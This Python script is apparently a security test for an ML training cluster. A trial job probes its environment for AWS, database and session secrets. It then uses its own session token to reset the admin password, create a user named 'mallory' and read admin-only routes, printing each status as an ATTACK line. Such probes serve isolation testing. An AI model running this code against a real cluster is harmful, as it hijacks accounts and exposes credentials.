"""A trial that attacks the cluster it runs on: it reads its environment for
secrets and uses its own session token against routes a trial must not
reach. It prints what it found as ATTACK lines and exits 0."""
import json
import os
import urllib.error
import urllib.request

SECRETS = ["DET_AGENT_TOKEN", "AWS_ACCESS_KEY_ID", "AWS_SECRET_ACCESS_KEY",
           "AWS_SESSION_TOKEN", "PGPASSWORD", "DET_DB_PASSWORD", "DET_SESSION_SECRET"]
for name in SECRETS:
    print("ATTACK env %s %s" % (name, "present" if name in os.environ else "absent"), flush=True)
leaked = [k for k, v in os.environ.items() if "master-secret" in v]
print("ATTACK leaked %s" % json.dumps(leaked), flush=True)

master = os.environ.get("DET_MASTER", "")
token = os.environ.get("DET_SESSION_TOKEN", "")


def call(method, path, body=None):
    data = None if body is None else json.dumps(body).encode()
    req = urllib.request.Request(master + path, data=data, method=method)
    req.add_header("Authorization", "Bearer " + token)
    try:
        with urllib.request.urlopen(req, timeout=10) as r:
            return r.status
    except urllib.error.HTTPError as e:
        return e.code


print("ATTACK change-admin-password %d" % call("PATCH", "/api/v1/users/1", {"password": "owned"}), flush=True)
print("ATTACK create-user %d" % call("POST", "/api/v1/users", {"user": {"username": "mallory"}, "password": "x"}), flush=True)
print("ATTACK read-event-log %d" % call("GET", "/api/v1/inspect/events"), flush=True)
print("ATTACK list-users %d" % call("GET", "/api/v1/users"), flush=True)
print("ATTACK done", flush=True)
